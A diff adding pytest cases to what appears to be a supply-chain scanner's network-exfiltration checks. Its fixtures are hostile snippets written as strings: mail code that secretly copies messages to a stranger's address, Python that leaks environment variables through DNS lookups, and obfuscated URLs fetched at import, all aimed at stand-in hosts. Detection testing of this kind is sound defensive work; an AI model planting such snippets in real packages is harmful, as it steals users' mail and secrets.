@@ -8,9 +8,10 @@ from typing import Any
 import pytest
 
 from adapters.sigil.local.code.facts import Behaviour, Fact, Flow
-from adapters.sigil.local.material import Ecosystem
+from adapters.sigil.local.material import Ecosystem, Package
 from adapters.sigil.local.phases.network_exfil import network_exfil
 from adapters.sigil.models import PhaseName, Severity
+from tests.adapters.sigil.local.phases.conftest import Outcome, Pack
 
 _NPM = {
     "dns-exfiltration": (
@@ -124,3 +125,94 @@ def test_file_that_leaves(made: Any, fact: Callable[..., Fact]) -> None:
 
     assert severity("/data/customers.csv") is Severity.HIGH
     assert severity("./package.json") is Severity.INFO
+
+
+_COPIED = {
+    "a field set later": "exports.send = (c, m) => { m.bcc = 'copy@far.invalid'; return c.sendMail(m); };",
+    "a constant put together": (
+        "const kept = ['copy', 'far.invalid'].join('@');\n"
+        "exports.send = (c, m) => c.sendEmail({ To: m.to, Bcc: kept });"
+    ),
+    "a list of a cloud": "exports.send = (c, to) => c.send({ To: [to], BccAddresses: ['copy@far.invalid'] });",
+    "beside the receiver": "exports.send = (c, to) => c.sendMail({ to: [to, 'copy@far.invalid'], text: 'x' });",
+    "a header as text": "exports.send = (g, to) => g.send(['To: ' + to, 'Bcc: copy@far.invalid'].join('\\r\\n'));",
+}
+_COPIED_IN_PYTHON = {
+    "a header": (
+        "import smtplib\ndef send(host, message):\n    message['Bcc'] = 'copy@far.invalid'\n"
+        "    smtplib.SMTP(host).send_message(message)\n"
+    ),
+    "a header that is added": (
+        "from email.message import EmailMessage\ndef made():\n    message = EmailMessage()\n"
+        "    message.add_header('Bcc', 'copy@far.invalid')\n    return message\n"
+    ),
+    "an argument": "from post import Message\ndef send(to):\n    Message(to=[to], bcc=['copy@far.invalid']).send()\n",
+    "among the receivers": (
+        "import smtplib\ndef send(host, to, text):\n"
+        "    smtplib.SMTP(host).sendmail('me', [to, 'copy@far.invalid'], text)\n"
+    ),
+    "a request's body": (
+        "import httpx\ndef send(to):\n"
+        "    httpx.post('https://mail.invalid', json={'to': to, 'bcc': [{'email': 'copy@far.invalid'}]})\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("code", _COPIED.values(), ids=_COPIED)
+def test_copies_for_a_stranger(code: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
+    """A fixed address that gets what others write is found, whatever library sends."""
+    found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
+    assert found.dangerous
+    assert "hidden-recipient" in found.rules(PhaseName.NETWORK_EXFIL)
+
+
+@pytest.mark.parametrize("code", _COPIED_IN_PYTHON.values(), ids=_COPIED_IN_PYTHON)
+def test_copies_for_a_stranger_in_python(code: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
+    """The same for headers, arguments, receivers and bodies in Python."""
+    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
+    assert found.dangerous
+    assert "hidden-recipient" in found.rules(PhaseName.NETWORK_EXFIL)
+
+
+@pytest.mark.parametrize("address", ["process.env.BCC", "'archive@sample-mail.invalid'", "'joe@example.com'"])
+def test_copies_for_the_operator(address: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
+    """An operator's setting, the project's own mailbox and a sample are left alone."""
+    manifest = {"name": "sample", "main": "index.js", "homepage": "https://sample-mail.invalid"}
+    code = f"exports.send = (c, m) => c.sendMail({{ ...m, bcc: {address} }});"
+    assert outcome(pack({"package.json": manifest, "index.js": code})).score == 0
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "asyncio.get_running_loop().getaddrinfo(name, 80)",
+        "dns.asyncresolver.resolve(name, 'A')",
+        "socket.create_connection((name, 53), 1)",
+    ],
+)
+def test_names_looked_up_by_other_ways(call: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
+    """What is asked of a loop's or a library's resolver, or connected to, carries data as its labels."""
+    code = (
+        "import asyncio, os, socket, dns.asyncresolver\nasync def ask(name):\n"
+        f"    {call}\nasync def main():\n    text = str(dict(os.environ)).encode().hex()\n"
+        "    labels = [text[at : at + 60] for at in range(0, len(text), 60)]\n"
+        "    await asyncio.gather(*map(ask, [f'{label}.z.far.invalid' for label in labels]))\nasyncio.run(main())\n"
+    )
+    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
+    assert "dns-exfiltration" in found.rules(PhaseName.NETWORK_EXFIL)
+    assert found.dangerous
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "base64.b64decode('aHR0cHM6Ly9sb2cuZmFyLmludmFsaWQvYQ==').decode()",
+        "bytes.fromhex('68747470733a2f2f6c6f672e6661722e696e76616c6964').decode()",
+        "'dilavni.raf.gol//:sptth'[::-1]",
+    ],
+)
+def test_addresses_that_nobody_reads(address: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
+    """An address written in any code is found where it is asked at import."""
+    code = f"import base64, requests\nrequests.get({address})\n"
+    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
+    assert "hidden-address" in found.rules(PhaseName.NETWORK_EXFIL)
